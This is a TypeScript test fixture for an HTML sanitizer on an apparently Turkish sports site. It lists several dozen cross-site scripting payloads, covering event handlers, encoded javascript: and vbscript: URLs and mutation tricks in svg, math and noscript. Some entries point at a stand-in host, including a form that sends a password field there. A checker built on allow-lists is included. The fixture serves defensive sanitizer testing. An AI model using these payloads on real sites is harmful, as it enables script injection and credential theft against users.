/** HTML a server should never send: every known way to execute code. Executed code calls `window.hit`. */
export const hostileHtml: readonly string[] = [
  '<script>hit()</script>',
  '<script src="https://kotu.example/x.js"></script>',
  '<img src=x onerror=hit()>',
  '<img/src=x/onerror=hit()//',
  '<img src="data:image/svg+xml,<svg onload=hit()>">',
  '<body onload=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<video><source onerror=hit()></video>',
  '<audio src onloadstart=hit()>',
  '<marquee onstart=hit()>x</marquee>',
  '<p onclick=hit() onmouseover=hit() onpointerenter=hit()>x</p>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>svg link</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:hit()"/><text y=20>svg animate</text></a></svg>',
  '<svg><set attributeName=onmouseover to=hit()>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit()/>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=hit()></style>',
  '<math><mi xlink:href="javascript:hit()">math link</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<template><img src=x onerror=hit()></template>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object><embed src="javascript:hit()">',
  '<a href="javascript:hit()">kötü 1</a>',
  '<a href="JaVaScRiPt:hit()">kötü 2</a>',
  '<a href="java\tscript:hit()">kötü 3</a>',
  '<a href="&#106;avascript&colon;hit()">kötü 4</a>',
  '<a href=" \u0001javascript:hit()">kötü 5</a>',
  '<a href="data:text/html,<script>opener.hit()</script>">kötü 6</a>',
  '<a href="vbscript:hit()">kötü 7</a>',
  '<a href="//kotu.example">kötü 8</a>',
  '<a href="/\\kotu.example">kötü 9</a>',
  '<form action="https://kotu.example"><input name=password autofocus onfocus=hit()><button formaction="javascript:hit()">kötü</button></form>',
  '<base href="https://kotu.example/">',
  '<meta http-equiv="refresh" content="0;url=https://kotu.example/">',
  '<link rel="stylesheet" href="https://kotu.example/x.css">',
  '<style>@import "https://kotu.example/x.css"; body { display: none }</style>',
  '<div style="position:fixed;inset:0;background:url(https://kotu.example/x.png)">örtü</div>',
  '<a id="root" name="tribun" class="stolen">kötü 10</a>',
  '<button onclick=hit()>kötü</button><select><option>x</option></select><textarea>x</textarea>',
  '<tribun-element is="x" onclick=hit()>x</tribun-element>',
];

/** All of it in one text, links first: unclosed elements swallow the rest. */
export const hostileText: string = hostileHtml
  .toSorted((a, b) => Number(b.startsWith('<a ')) - Number(a.startsWith('<a ')))
  .join('\n');

/** HTML that contracts consist of and that cleaning must keep. */
export const honestHtml = [
  '<h2>Başlık</h2><p>Bir <strong>kalın</strong> ve <em>eğik</em> söz.</p>',
  '<ul><li>madde</li></ul><ol start="3"><li>üçüncü</li></ol>',
  '<table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>',
  '<p><a href="https://tribun.example/kurallar">dış bağ</a> <a href="/program/futbol">iç bağ</a></p>',
  '<p><a href="mailto:destek@tribun.example">posta</a></p>',
].join('');

/**
 * Returns every element and attribute that does not belong in a text, "IMG onerror"; runs in the page, self-contained.
 */
export function whatCouldAct(text: Element): string[] {
  const elements =
    'P BR HR DIV SPAN H1 H2 H3 H4 H5 H6 B STRONG I EM U S SMALL SUB SUP UL OL LI DL DT DD A IMG TABLE CAPTION THEAD ' +
    'TBODY TFOOT TR TH TD SECTION ARTICLE BLOCKQUOTE PRE';
  const attributes = 'href src alt width height colspan rowspan scope start title lang dir rel target';
  const addresses = /^(?:https:\/\/tribun\.example|\/program|mailto:)/;
  return [...text.querySelectorAll('*')].flatMap((element) => {
    const wrong = element.getAttributeNames().filter((name) => !attributes.split(' ').includes(name));
    const leads = ['href', 'src'].filter((name) => !addresses.test(element.getAttribute(name) ?? 'mailto:'));
    const itself = elements.split(' ').includes(element.nodeName) ? [] : ['itself'];
    return [...itself, ...wrong, ...leads].map((what) => `${element.nodeName} ${what}`);
  });
}

const handlers = 'onclick onerror onload onmouseover onfocus onanimationstart onpointerdown ontoggle onscroll'.split(
  ' ',
);
const carriers = [
  'p',
  'img src=x',
  'a href=/program',
  'div',
  'span',
  'td',
  'svg',
  'math',
  'input autofocus',
  'video src=x',
];
const schemes = [
  'javascript:',
  'JAVASCRIPT:',
  '&#x6a;avascript:',
  'data:text/html,',
  'vbscript:',
  'blob:',
  'filesystem:',
];
const leading = ['a href', 'img src', 'form action', 'object data', 'embed src'];

/**
 * The fixed cases, every handler on every element that supports it, and every scheme on every linking or loading
 * attribute.
 */
export const everyHostile: readonly string[] = [
  ...handlers.flatMap((handler) =>
    carriers.map((carrier) => `<${carrier} ${handler}=hit()>x</${carrier.split(' ')[0]}>`),
  ),
  ...schemes.flatMap((scheme) => leading.map((lead) => `<${lead}="${scheme}hit()">y</${lead.split(' ')[0]}>`)),
  ...hostileHtml.toSorted((a, b) => Number(b.startsWith('<a ')) - Number(a.startsWith('<a '))),
];
